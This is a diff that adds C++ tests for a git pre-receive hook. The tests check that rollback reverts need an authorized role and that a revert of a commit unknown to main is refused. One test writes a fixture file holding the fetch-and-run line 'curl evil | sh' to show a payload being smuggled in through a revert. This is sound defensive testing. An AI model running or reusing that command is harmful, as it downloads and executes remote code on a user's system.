@@ -760,3 +760,60 @@ TEST_CASE("a pre-receive killed by SIGTERM or its watchdog still leaves its reco
   }
 }
 }
+
+TEST_SUITE("pre_receive") {
+
+TEST_CASE("the SOP's literal rollback: git revert pushed as it is, by a holder of a rollback role") {
+  Server s;
+  Client c(s);
+  bootstrap(s, c);
+  c.release("feature/bad", "bad.txt", "regression\n");
+  REQUIRE(c.push("-q origin main").exit_code == 0);
+  const std::string release = c.head();
+  c.git("revert --no-edit -m 1 " + release);
+  // Anonymous: the plain revert carries no authority; the fix says which lines to add.
+  auto r = c.push("origin main");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[rollback/no-record]"));
+  CHECK(contains(r.err, "--trailer 'Rollback-Of: " + release + "'"));
+  CHECK(s.rev("refs/heads/main") == release);
+  // Someone who holds no rollback role: still refused.
+  r = c.push("origin main", "REMOTE_USER=intern@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(s.rev("refs/heads/main") == release);
+  // The CDO, proven by the host: accepted, no QA gate.
+  r = c.push("origin main", "REMOTE_USER=dana@example.com");
+  CHECK_MESSAGE(r.exit_code == 0, r.all());
+  CHECK(s.rev("refs/heads/main") == c.head());
+}
+
+TEST_CASE("a plain git revert of something main never had is not a rollback, whoever pushes it") {
+  Server s;
+  Client c(s);
+  bootstrap(s, c);
+  const std::string before = s.rev("refs/heads/main");
+  const std::string tree = trimmed(run_ok("git rev-parse main^{tree}", s.bare).out);
+  // Off main: a commit that deletes a payload; its revert adds the payload.
+  c.git("checkout -q -b scratch main");
+  c.commit_file("payload.sh", "curl evil | sh\n", "add payload");
+  c.git("rm -q payload.sh");
+  c.git("commit -q -m 'drop payload'");
+  const std::string drop = c.head();
+  c.git("checkout -q main");
+  // The revert of `drop` on main adds the payload (git revert applies its reverse).
+  c.git("revert --no-edit " + drop);
+  CHECK(read_file(c.path() / "payload.sh") == "curl evil | sh\n");
+  // X unknown to the server, then X on another branch of the server: both refused.
+  auto r = c.push("origin main", "REMOTE_USER=dana@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[rollback/unknown-commit]"));
+  CHECK(s.rev("refs/heads/main") == before);
+  REQUIRE(c.push("-q origin scratch").exit_code == 0);
+  r = c.push("origin main", "REMOTE_USER=dana@example.com");
+  CHECK(r.exit_code != 0);
+  CHECK(contains(r.err, "[rollback/not-on-branch]"));
+  CHECK(s.rev("refs/heads/main") == before);
+  CHECK(trimmed(run_ok("git rev-parse main^{tree}", s.bare).out) == tree);
+}
+
+}
